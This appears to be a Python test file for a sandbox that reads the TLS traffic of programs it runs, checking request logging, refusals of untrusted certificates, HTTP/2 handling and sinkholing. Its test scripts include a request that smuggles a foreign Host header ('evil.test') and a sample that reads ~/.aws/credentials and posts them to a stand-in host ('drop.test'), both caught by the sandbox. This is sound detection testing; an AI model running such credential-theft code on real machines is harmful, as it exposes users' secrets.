"""Trials whose TLS is read: what is recorded, what is refused, and who will not be read fails clearly."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from scenario_lab import Lab, Ran, python
from scenario_outside import Outside, outside

pytestmark = pytest.mark.kernel("trials")

POLICY = 'schema = 1\nname = "read"\n[network]\ninspect = true\n'

SCRIPT = """
import http.client, json, os, socket, ssl, sys

def say(what, call):
    try:
        print(what, call())
    except OSError as error:
        print(what, type(error).__name__)

def post():
    connection = http.client.HTTPSConnection("api.test", timeout=20)
    connection.request("POST", "/in?q=1", body=b"sent")
    answer = connection.getresponse().read()
    connection.request("GET", "/again")
    return answer + connection.getresponse().read()

def other_host():
    connection = http.client.HTTPSConnection("api.test", timeout=20)
    connection.request("GET", "/leak", headers={"Host": "evil.test"})
    return connection.getresponse().read()

def distrusting():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with socket.create_connection(("api.test", 443), 20) as sock:
        with context.wrap_socket(sock, server_hostname="api.test") as end:
            return end.recv(1)

say("post", post)
say("other", other_host)
say("distrusting", distrusting)
print("trusts", os.environ["SSL_CERT_FILE"] == os.environ["REQUESTS_CA_BUNDLE"])
for path in (os.environ["NODE_EXTRA_CA_CERTS"], "/etc/ssl/certs/ca-certificates.crt"):
    print("private key" if "PRIVATE" in open(path).read() else "certificates", "in a file")
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outside]:
    """One server for all trials."""
    with outside(tmp_path_factory.mktemp("outside")) as made:
        yield made


def make_lab(base: Path, policy: str) -> tuple[Lab, Path]:
    """Make a lab, and a policy file beside it."""
    lab = Lab(base / "home", base / "work")
    lab.home.mkdir(mode=0o700)
    lab.work.mkdir()
    file = base / "policy.toml"
    file.write_text(policy)
    return lab, file


@pytest.fixture(scope="module")
def read(tmp_path_factory: pytest.TempPathFactory, server: Outside) -> tuple[Lab, Ran]:
    """One trial that sends requests, and whose TLS is read."""
    trust = f'trust = ["{server.certificate}"]\n'
    lab, policy = make_lab(tmp_path_factory.mktemp("read"), POLICY + trust)
    return lab, lab.run("-p", str(policy), *server.mapping, "--", *python(SCRIPT))


def digest(data: bytes) -> str:
    """The digest of a body as reports have it."""
    return f"sha256:{hashlib.sha256(data).hexdigest()}"


def test_requests_arrive_as_they_were_sent(read: tuple[Lab, Ran], server: Outside) -> None:
    """The client trusts what it is told to trust, and keeps its connection."""
    assert b"post b'hellohello'" in read[1].out
    assert ("POST /in?q=1 HTTP/1.1", "api.test", b"sent") in server.asked


def test_requests_are_listed_with_their_answers(read: tuple[Lab, Ran]) -> None:
    """Method, URL, status, sizes and digests of both bodies; who sent them."""
    first, second = read[1].report["effects"]["requests"][:2]
    assert (first["method"], first["url"], first["status"]) == ("POST", "https://api.test/in?q=1", 200)
    assert (first["bytes_out"], first["digest_out"]) == (4, digest(b"sent"))
    assert (first["bytes_in"], first["digest_in"]) == (5, digest(b"hello"))
    assert (second["method"], second["url"], second["complete"]) == ("GET", "https://api.test/again", True)
    assert first["process"] in {process["id"] for process in read[1].report["effects"]["processes"]}


OFFERING_BOTH = """
import socket, ssl
context = ssl.create_default_context()
context.set_alpn_protocols(["h2", "http/1.1"])
with context.wrap_socket(socket.create_connection(("api.test", 443), 20), server_hostname="api.test") as end:
    print(end.selected_alpn_protocol() == "h2")
    end.sendall(b"GET /both HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n")
    print(end.recv(15))
"""


def test_a_client_that_offers_http2_too_is_read_as_http1_and_that_is_told(tmp_path: Path, server: Outside) -> None:
    """HTTP/2 cannot be read: it is never agreed to, the event has what was declined, and the request is told."""
    lab, policy = make_lab(tmp_path, POLICY + f'trust = ["{server.certificate}"]\n')
    ran = lab.run("-p", str(policy), *server.mapping, "--", *python(OFFERING_BOTH))
    assert ran.out == b"False\nb'HTTP/1.1 200 OK'\n"
    (allowed,) = (event for event in lab.events() if event["kind"] == "connection.allowed")
    assert (allowed["speaks"], allowed["declined"]) == ("tls", ["h2"])
    (request,) = ran.report["effects"]["requests"]
    assert (request["url"], request["status"]) == ("https://api.test/both", 200)


def test_a_request_to_another_host_is_refused_inside_tls(read: tuple[Lab, Ran], server: Outside) -> None:
    """The name in the hello was allowed, that in the request is not: a violation, and nothing of it arrived."""
    assert not [line for line, _, _ in server.asked if "leak" in line]
    assert b"other b'hello'" not in read[1].out
    assert any("evil.test" in violation["text"] for violation in read[1].report["scope"]["violations"])
    assert read[1].scope == "violated"


def test_a_client_that_trusts_others_only_fails_clearly(read: tuple[Lab, Ran]) -> None:
    """The program sees its handshake fail, the report says why."""
    assert b"distrusting SSL" in read[1].out
    (unread,) = read[1].report["effects"]["unread"]
    assert (unread["host"], unread["side"]) == ("api.test", "client")
    assert "does not trust the run's authority" in unread["reason"]
    shown = read[0].call("show", "last").stdout
    assert b"connections that could not be read (1)" in shown
    assert b"POST https://api.test/in?q=1, 200" in shown


def test_nothing_of_the_bodies_is_kept(read: tuple[Lab, Ran]) -> None:
    """Digests only; and no key lies in the box."""
    assert b"private key" not in read[1].out
    log = b"".join(path.read_bytes() for path in sorted(read[0].home.rglob("*.seg")))
    assert b"/in?q=1" in log
    assert b"hellohello" not in log.replace(SCRIPT.encode(), b"")


def test_a_server_that_nobody_vouches_for_is_refused(tmp_path: Path, server: Outside) -> None:
    """Without the file of its authority the server is not trusted: nothing is sent, and the report says whose fault."""
    lab, policy = make_lab(tmp_path, POLICY)
    before = len(server.asked)
    script = (
        "import urllib.request as u\ntry: u.urlopen('https://api.test/', timeout=20)\nexcept OSError: print('failed')"
    )
    ran = lab.run("-p", str(policy), *server.mapping, "--", *python(script))
    assert ran.out == b"failed\n"
    assert len(server.asked) == before
    (unread,) = ran.report["effects"]["unread"]
    assert unread["side"] == "server"
    assert "api.test was not accepted" in unread["reason"]


def test_a_file_to_trust_that_is_none_stops_the_start(tmp_path: Path) -> None:
    """A mistake of the policy is told before anything runs."""
    lab, policy = make_lab(tmp_path, POLICY + 'trust = ["nothing.pem"]\n')
    ended = lab.call("-p", str(policy), "--", "true")
    assert ended.returncode == 125
    assert b"network.trust[0]" in ended.stderr


def test_what_is_swallowed_is_read_inside_tls(tmp_path: Path) -> None:
    """Nothing is sent anywhere, and the request that would have been is kept, a decoy in it recognised."""
    policy = (
        'schema = 1\nname = "trap"\n[network]\ndefault = "sinkhole"\ninspect = true\n[credentials]\ncanaries = true\n'
    )
    lab, file = make_lab(tmp_path, policy)
    script = (
        "import http.client, os\n"
        "data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "connection = http.client.HTTPSConnection('drop.test', timeout=20)\n"
        "connection.request('POST', '/take-it', body=data)\n"
        "connection.close()\n"
    )
    (tmp_path / "user").mkdir()
    lab.environ["HOME"] = str(tmp_path / "user")
    ran = lab.run("-p", str(file), "--", *python(script))
    (closed,) = [event for event in lab.events("connection.closed") if event["port"] == 443]
    assert (closed["host"], closed["decision"]) == ("drop.test", "sinkholed")
    assert "POST /take-it HTTP/1.1" in str(closed)
    assert any(use["kind"] == "canary" for use in ran.report["effects"]["credentials"])
